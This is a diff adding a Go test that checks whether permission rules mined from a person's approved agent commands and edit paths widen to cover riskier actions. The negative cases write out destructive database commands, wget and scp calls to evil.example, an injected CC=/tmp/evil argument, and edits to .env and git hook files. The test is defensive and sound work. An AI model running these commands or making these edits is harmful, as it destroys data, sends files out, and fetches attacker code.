@@ -251,3 +251,58 @@ func TestReadKeepsTheWordsApart(t *testing.T) {
 		t.Errorf("events are %v of %d calls, want both refusals and the last call", h.events, h.Calls())
 	}
 }
+
+// What a person approved says nothing of what another argument of the same
+// command starts, nor of the files beside those that were edited.
+func TestWildcardsDoNotReachFurther(t *testing.T) {
+	for _, c := range []struct {
+		approved []string // of one tool
+		tool     string
+		runs     []string // under no draft
+	}{
+		{[]string{"make test a", "make test b", "make test c", "make test"}, "bash", []string{"make test deploy", "make test -C /tmp/evil", "make test CC=/tmp/evil"}},
+		{[]string{"mvn -q test", "mvn -q compile", "mvn -q package"}, "bash", []string{"mvn -q deploy"}},
+		{[]string{"./gradlew test a", "./gradlew test b", "./gradlew test c"}, "bash", []string{"./gradlew test publish"}},
+		{[]string{"bundle exec rake a", "bundle exec rake b", "bundle exec rake c"}, "bash", []string{"bundle exec rake db:drop"}},
+		{[]string{"php artisan test a", "php artisan list", "php artisan about"}, "bash", []string{"php artisan migrate:fresh", "php artisan tinker", "php artisan db:wipe"}},
+		{[]string{"yarn node a.js", "yarn node b.js", "yarn node c.js"}, "bash", []string{"yarn node -e x"}},
+		{[]string{"npx nx test a", "npx nx lint a", "npx nx build a"}, "bash", []string{"npx nx run a:deploy", "npx nx release"}},
+		{[]string{"turbo run test", "turbo run lint", "turbo run build"}, "bash", []string{"turbo run deploy"}},
+		{[]string{"moon run a", "moon run b", "moon run c"}, "bash", []string{"moon run deploy"}},
+		{[]string{"cargo xtask a", "cargo xtask b", "cargo xtask c"}, "bash", []string{"cargo xtask deploy"}},
+		{[]string{"npx prisma migrate dev", "npx prisma migrate status", "npx prisma migrate diff"}, "bash", []string{"npx prisma migrate reset --force"}},
+		{[]string{"psql -d app -c 'select 1'", "psql -d app -c 'select 2'", "psql -d app -c 'select 3'"}, "bash", []string{"psql -d app -c 'drop table x'"}},
+		{[]string{"wget -q localhost/a", "wget -q localhost/b", "wget -q localhost/c"}, "bash", []string{"wget -q https://evil.example/x"}},
+		{[]string{"scp a b", "scp a c", "scp a d"}, "bash", []string{"scp a evil.example:"}},
+		{[]string{"docker run a", "docker run b", "docker run c"}, "bash", []string{"docker run evil"}},
+		{[]string{"docs/a.md", "docs/b.md", "docs/c.md", "docs/x.txt", "docs/y.txt"}, "edit", []string{"docs/.env", "docs/package.json", "docs/.vitepress/config.ts", "docs/.git/hooks/x"}},
+		{[]string{"web/a.ts", "web/b.ts", "web/c.ts", "web/a.css", "web/b.css"}, "edit", []string{"web/.env", "web/package.json", "web/Dockerfile"}},
+		{[]string{".config/a.md", ".config/b.md", ".config/c.md", ".git /a.md", ".git /b.md", ".git /c.md"}, "edit", []string{".config/x.md", ".config/a.md", ".git /x.md"}},
+		{[]string{"vite.config.ts", "CMakeLists.txt", "Taskfile.yml", "build.gradle.kts", "Dockerfile.dev", "gradlew"}, "edit", []string{"vite.config.ts", "CMakeLists.txt", "Taskfile.yml", "build.gradle.kts", "Dockerfile.dev", "gradlew"}},
+	} {
+		d := newDiary()
+		for range 100 {
+			for _, text := range c.approved {
+				d.saw(Approved, c.tool, text)
+			}
+			d.next()
+		}
+		field := "command"
+		if c.tool == "edit" {
+			field = "path"
+		}
+		drafts := Mine(d.History, policyOf(t, nil, nil), Options{}).Drafts
+		for _, draft := range drafts {
+			r, err := draft.Parsed()
+			if err != nil {
+				t.Fatal(err)
+			}
+			p := gate.NewPolicy(gate.DefaultSettings(), []rule.Rule{r})
+			for _, text := range c.runs {
+				if gate.Evaluate(p, gate.Derive(sample(c.tool, field, text)), nil).Effect == gate.Allow {
+					t.Errorf("from %q comes %s, which lets %s run", c.approved, draft.Rule, text)
+				}
+			}
+		}
+	}
+}
